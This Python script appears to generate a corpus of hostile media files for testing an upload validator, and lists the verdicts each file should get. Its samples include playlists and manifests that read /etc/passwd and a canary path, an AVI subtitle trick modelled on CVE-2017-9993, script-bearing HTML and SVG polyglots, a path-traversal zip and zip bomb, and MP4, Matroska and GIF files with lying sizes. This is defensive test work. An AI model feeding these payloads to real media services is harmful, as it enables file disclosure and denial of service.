"""Files that want something: `python corpus.py CLIP.mp4 FOLDER` writes them all. Standard library only, no randomness.

Each is made from an honest clip (MP4 with H.264 and AAC, `moov` last) by lying in one place. `HOSTILE` says for each
which verdicts are right: `ready`, where what was hidden is harmless once the picture is encoded anew, or codes of
`penchant.media.reasons`.
"""

import io
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

CANARY = b"the canary that nobody may read"
CANARY_NAME = "canary.txt"
_U32 = struct.Struct(">I")
_EBML = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"


class Hostile(NamedTuple):
    """A file, and the verdicts that are right for it."""

    make: Callable[[bytes], bytes]
    verdicts: frozenset[str]


HOSTILE: dict[str, Hostile] = {}


def hostile(*verdicts: str) -> Callable[[Callable[[bytes], bytes]], Callable[[bytes], bytes]]:
    def enter(make: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
        HOSTILE[make.__name__] = Hostile(make, frozenset(verdicts))
        return make

    return enter


def box(kind: bytes, content: bytes, claimed: int | None = None) -> bytes:
    return _U32.pack(claimed if claimed is not None else 8 + len(content)) + kind + content


def patched(clip: bytes, kind: bytes, offset: int, value: bytes) -> bytes:
    """The clip with `value` written `offset` bytes after the first name `kind` in it."""
    at = clip.index(kind) + 4 + offset
    return clip[:at] + value + clip[at + len(value) :]


# What is read as a script by those who look at names or at too many formats.


@hostile("not_a_video")
def playlist(_: bytes) -> bytes:
    return b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n../canary.txt\n#EXT-X-ENDLIST\n"


@hostile("not_a_video")
def playlist_of_a_network(_: bytes) -> bytes:
    return b"#EXTM3U\n#EXTINF:10.0,\nconcat:http://192.0.2.1/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n"


@hostile("not_a_video")
def concat_script(_: bytes) -> bytes:
    return b"file '../canary.txt'\nfile '/etc/passwd'\n"


@hostile("not_a_video")
def ffconcat_script(_: bytes) -> bytes:
    return b"ffconcat version 1.0\nfile '../canary.txt'\nduration 10\n"


@hostile("not_a_video")
def dash_manifest(_: bytes) -> bytes:
    return b'<?xml version="1.0"?><MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>'


@hostile("not_a_video")
def session_description(_: bytes) -> bytes:
    return b"v=0\no=- 0 0 IN IP4 192.0.2.1\nc=IN IP4 192.0.2.1\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"


@hostile("not_a_video")
def svg(_: bytes) -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<image xlink:href="file:///etc/passwd"/><script>alert(1)</script></svg>'
    )


@hostile("not_a_video")
def gab2_subtitles(_: bytes) -> bytes:
    """The AVI whose subtitle chunk is a playlist (CVE-2017-9993's sister): FFmpeg would open what it names."""
    script = b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"
    subtitle = b"GAB2\0\x02\0" + struct.pack("<IHI", 2, 4, len(script)) + script
    stream = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52)
    header = b"LIST" + struct.pack("<I", 4 + len(stream)) + b"strl" + stream
    movie = b"LIST" + struct.pack("<I", 12 + len(subtitle)) + b"movi00tx" + struct.pack("<I", len(subtitle)) + subtitle
    return b"RIFF" + struct.pack("<I", 4 + len(header) + len(movie)) + b"AVI " + header + movie


# Two formats in one file.


@hostile("not_a_video")
def pdf_before(clip: bytes) -> bytes:
    return b"%PDF-1.7\n%" + clip


@hostile("not_a_video")
def html_before(clip: bytes) -> bytes:
    return b"<html><script>alert(document.cookie)</script>" + clip


@hostile("ready")
def html_within(clip: bytes) -> bytes:
    return clip + box(b"free", b"<html><script>alert(document.cookie)</script></html>" + CANARY)


@hostile("ready", "truncated")
def zip_behind(clip: bytes) -> bytes:
    return clip + zip_of(CANARY)


@hostile("not_a_video")
def zip_bomb_called_mov(_: bytes) -> bytes:
    return zip_of(bytes(64 << 20))


def zip_of(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../canary.txt", content)
    return buffer.getvalue()


# Tables that lie.


@hostile("ready", "truncated", "not_a_video")
def box_of_four_gigabytes(clip: bytes) -> bytes:
    return patched(clip, b"moov", -8, _U32.pack(0xFFFFFFF0))


@hostile("ready", "damaged", "truncated", "not_a_video")
def box_of_exabytes(clip: bytes) -> bytes:
    return clip[:32] + box(b"moov", struct.pack(">Q", 1 << 62), claimed=1) + clip[32:]


@hostile("truncated", "not_a_video", "no_picture")
def box_within_itself(clip: bytes) -> bytes:
    """A hundred thousand boxes, each inside the other."""
    depth = 100_000
    return clip[:32] + b"".join(box(b"moov", b"", claimed=8 * (depth - level)) for level in range(depth))


@hostile("truncated", "not_a_video")
def no_table_of_contents(clip: bytes) -> bytes:
    return clip.replace(b"moov", b"gone", 1)


@hostile("ready", "truncated", "not_a_video")
def table_called_free_space(clip: bytes) -> bytes:
    """FFmpeg looks for tables in free space, too."""
    return clip.replace(b"moov", b"free", 1)


@hostile("ready", "truncated", "not_a_video", "damaged", "no_picture", "out_of_memory", "too_many_frames", "too_long")
def two_thousand_million_samples(clip: bytes) -> bytes:
    """`stsz` with one size for all and 2^31 − 1 samples: the index alone would need 50 GB."""
    return patched(clip, b"stsz", 4, _U32.pack(1) + _U32.pack(0x7FFFFFFF))


@hostile("ready", "truncated", "not_a_video", "damaged", "no_picture", "out_of_memory", "too_many_frames", "too_long")
def two_thousand_million_durations(clip: bytes) -> bytes:
    return patched(clip, b"stts", 8, _U32.pack(0x7FFFFFFF))


@hostile("ready", "truncated", "not_a_video", "damaged", "no_picture", "out_of_memory")
def table_longer_than_its_box(clip: bytes) -> bytes:
    return patched(clip, b"stco", 4, _U32.pack(0x3FFFFFFF))


@hostile("truncated", "not_a_video", "damaged", "no_picture")
def samples_outside_the_file(clip: bytes) -> bytes:
    return patched(clip, b"stco", 8, _U32.pack(0xFFFFFFF0))


@hostile("ready", "truncated", "not_a_video", "damaged", "no_picture")
def data_in_another_file(clip: bytes) -> bytes:
    """A data reference (an alias of old Macs) to a path: players that follow it show somebody else's file."""
    path = b"../canary.txt\0"
    alias = bytes(10 + 28 + 12 + 64 + 16) + struct.pack(">HH", 1, 1) + bytes(16)
    alias += struct.pack(">HH", 2, len(path)) + path + b"\xff\xff\0\0"
    at = clip.index(b"dref") - 4
    (old_length,) = _U32.unpack_from(clip, at)
    dref = box(b"dref", bytes(4) + _U32.pack(1) + box(b"alis", bytes(4) + alias))
    grown = bytearray(clip)
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        outer = clip.rindex(kind, 0, at) - 4
        _U32.pack_into(grown, outer, _U32.unpack_from(clip, outer)[0] + len(dref) - old_length)
    grown[at : at + old_length] = dref
    return bytes(grown)


@hostile("ready", "too_large_picture")
def claims_65535_by_65535(clip: bytes) -> bytes:
    """Only the table says so; the stream's own header is honest."""
    return patched(clip, b"avc1", 24, struct.pack(">HH", 65535, 65535))


@hostile("too_large_picture")
def gif_of_65535_by_65535(_: bytes) -> bytes:
    return gif(65535, 65535, pictures=30)


@hostile("too_many_frames", "too_short")
def gif_without_end(_: bytes) -> bytes:
    """A quarter of a million pictures that are shown for no time, and no last one."""
    return gif(16, 16, pictures=250_000)[:-1]


def gif(width: int, height: int, pictures: int) -> bytes:
    screen = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff"
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    picture = b"!\xf9\x04\0\0\0\0\0" + b"," + struct.pack("<HHHH", 0, 0, 16, 16) + b"\0" + b"\x02\x02\x44\x01\0"
    return screen + loop + picture * pictures + b";"


@hostile("too_long", "damaged", "truncated", "not_a_video")
def a_day_long(clip: bytes) -> bytes:
    """Sixty pictures, each shown for 24 minutes."""
    return patched(clip, b"stts", 12, _U32.pack(1440 * 15360))


@hostile("ready", "too_short", "too_long", "damaged", "truncated", "no_picture")
def before_time_began(clip: bytes) -> bytes:
    """An edit list that starts two thousand million ticks before the first picture."""
    return patched(clip, b"elst", 12, struct.pack(">i", -0x7FFFFFFF))


@hostile("ready", "too_short", "too_long", "damaged", "truncated", "no_picture", "too_many_frames")
def composed_in_the_past(clip: bytes) -> bytes:
    return patched(clip, b"ctts", 12, struct.pack(">i", -0x40000000)) if b"ctts" in clip else before_time_began(clip)


@hostile("empty")
def nothing(_: bytes) -> bytes:
    return b""


@hostile("not_a_video")
def zeros(_: bytes) -> bytes:
    return bytes(1 << 20)


@hostile("truncated", "not_a_video", "no_picture", "damaged")
def matroska_without_end(_: bytes) -> bytes:
    """A segment of unknown length, and clusters of unknown length in it, for ever."""
    cluster = b"\x1f\x43\xb6\x75\x01\xff\xff\xff\xff\xff\xff\xff\xe7\x81\0"
    return _EBML + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + cluster * 200_000


@hostile("truncated", "not_a_video", "no_picture", "damaged")
def matroska_of_exabytes(_: bytes) -> bytes:
    tracks = b"\x16\x54\xae\x6b\x01\x0f\xff\xff\xff\xff\xff\xff"
    return _EBML + b"\x18\x53\x80\x67\x01\x0f" + b"\xff" * 6 + tracks + bytes(5000)


def write_all(clip: bytes, folder: Path) -> None:
    """All of them, under their names."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, file in HOSTILE.items():
        (folder / name).write_bytes(file.make(clip))


if __name__ == "__main__":
    write_all(Path(sys.argv[1]).read_bytes(), Path(sys.argv[2]))
